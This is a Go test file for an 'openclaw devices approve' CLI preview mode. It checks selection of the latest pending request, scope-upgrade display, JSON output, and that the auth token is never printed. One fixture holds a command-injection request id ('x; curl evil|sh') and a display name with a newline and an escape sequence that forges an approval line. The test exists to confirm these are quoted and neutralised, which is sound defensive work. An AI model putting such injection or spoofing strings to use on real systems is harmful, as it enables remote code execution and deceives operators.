package main

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/openclaw-go/openclaw/gateway/client/clienttest"
)

// TestDevicesApproveLatest checks `devices approve --latest` (and with no
// request id) as the real CLI: it previews the newest pending request and
// the exact command that approves it, exits 1, and approves nothing, so a
// request the operator has not seen is never approved.
func TestDevicesApproveLatest(t *testing.T) {
	older := map[string]any{"requestId": "req-old", "deviceId": "dev-a", "displayName": "laptop", "role": "operator",
		"scopes": []string{"operator.read"}, "remoteIp": "192.0.2.1", "ts": 1000}
	newer := map[string]any{"requestId": "req-new", "deviceId": "dev-b", "displayName": "phone", "platform": "ios", "role": "node",
		"roles": []string{"node"}, "scopes": []string{}, "remoteIp": "192.0.2.2", "ts": 2000}
	upgrade := map[string]any{"requestId": "req-up", "deviceId": "dev-c", "role": "operator",
		"scopes": []string{"operator.read", "operator.admin"}, "ts": 3000}
	paired := []any{map[string]any{"deviceId": "dev-c", "roles": []string{"operator"}, "scopes": []string{"operator.read"}}}
	// A device chooses its name and (through a hostile gateway) its
	// request id: they must not forge preview lines or shell commands.
	hostile := map[string]any{"requestId": "x; curl evil|sh", "deviceId": "dev-h",
		"displayName": "ok\n  Note:      Safe, approved by admin\x1b[2K", "role": "operator", "ts": 5000}
	tests := []struct {
		name        string
		args        []string
		pending     []any
		paired      []any
		wantStdout  []string
		notStdout   []string
		wantStderr  []string
		notStderr   []string
		wantJSON    map[string]string // dotted path -> value
		wantMessage string
	}{
		{name: "latest picks the newest", args: []string{"--latest"}, pending: []any{newer, older},
			wantStdout: []string{"Selected pending device request req-new", "dev-b (phone ios)", "roles node", "IP:        192.0.2.2",
				"First-time device pairing request.", "Also pending: 1 other request"},
			notStdout:  []string{"req-old"},
			wantStderr: []string{"Approve this exact request with: openclaw devices approve req-new --url URL\n"}},
		{name: "no id previews too", pending: []any{older},
			wantStdout: []string{"Selected pending device request req-old"}, notStdout: []string{"Also pending"},
			wantStderr: []string{"openclaw devices approve req-old"}},
		{name: "latest beats an id", args: []string{"req-old", "--latest"}, pending: []any{older, newer},
			wantStdout: []string{"req-new"}},
		{name: "scope upgrade", args: []string{"--latest"}, pending: []any{upgrade}, paired: paired,
			wantStdout: []string{"Requested: roles operator; scopes operator.read, operator.admin", "Approved:  roles operator; scopes operator.read", "beyond its approval"}},
		{name: "json", args: []string{"--latest", "--json", "--timeout", "5000"}, pending: []any{older, upgrade}, paired: paired,
			wantJSON: map[string]string{"selected.requestId": "req-up", "approvalState.kind": "scope-upgrade",
				"approveCommand": "openclaw devices approve req-up --url URL --timeout 5000 --json", "requiresAuthFlags.token": "true"}},
		{name: "secrets never in the command", args: []string{"--latest"}, pending: []any{older},
			wantStderr: []string{"--url URL\n", "Pass --token again"}, notStderr: []string{testToken}},
		{name: "hostile device text", args: []string{"--latest"}, pending: []any{hostile},
			wantStdout: []string{"ok?  Note:      Safe, approved by admin?[2K"},
			notStdout:  []string{"\n  Note:      Safe", "\x1b"},
			wantStderr: []string{`openclaw devices approve 'x; curl evil|sh'`}},
		{name: "nothing pending", args: []string{"--latest"}, wantMessage: "no pending device pairing requests to approve"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			isolate(t)
			srv := clienttest.NewServer(t, clienttest.Config{Token: testToken})
			srv.Reply("device.pair.list", map[string]any{"pending": append([]any{}, tc.pending...), "paired": append([]any{}, tc.paired...)})
			srv.Reply("device.pair.approve", map[string]any{"ok": true})
			args := append(append([]string{"devices", "approve"}, tc.args...), "--url", srv.URL(), "--token", testToken)
			stdout, stderr, err := runCLI(t, args...)
			stderr = strings.ReplaceAll(stderr, srv.URL(), "URL")
			if err == nil {
				t.Fatal("exit 0; a preview must exit 1")
			}
			for _, r := range srv.Requests() {
				if r.Method != "device.pair.list" {
					t.Errorf("sent %s; a preview sends only device.pair.list", r.Method)
				}
			}
			if tc.wantMessage != "" {
				if !strings.Contains(stderr, tc.wantMessage) {
					t.Errorf("stderr %q, want %q", stderr, tc.wantMessage)
				}
				return
			}
			for _, w := range tc.wantStdout {
				if !strings.Contains(stdout, w) {
					t.Errorf("stdout lacks %q:\n%s", w, stdout)
				}
			}
			for _, w := range tc.notStdout {
				if strings.Contains(stdout, w) {
					t.Errorf("stdout has %q:\n%s", w, stdout)
				}
			}
			for _, w := range tc.wantStderr {
				if !strings.Contains(stderr, w) {
					t.Errorf("stderr lacks %q:\n%s", w, stderr)
				}
			}
			for _, w := range tc.notStderr {
				if strings.Contains(stderr+stdout, w) {
					t.Errorf("output has %q", w)
				}
			}
			if tc.wantJSON != nil {
				var doc map[string]any
				if err := json.Unmarshal([]byte(strings.ReplaceAll(stdout, srv.URL(), "URL")), &doc); err != nil {
					t.Fatalf("stdout is not one JSON document: %v\n%s", err, stdout)
				}
				for path, want := range tc.wantJSON {
					var v any = doc
					for _, k := range strings.Split(path, ".") {
						v = v.(map[string]any)[k]
					}
					if got, _ := json.Marshal(v); strings.Trim(string(got), `"`) != want {
						t.Errorf("%s = %s, want %s", path, got, want)
					}
				}
			}
		})
	}
}
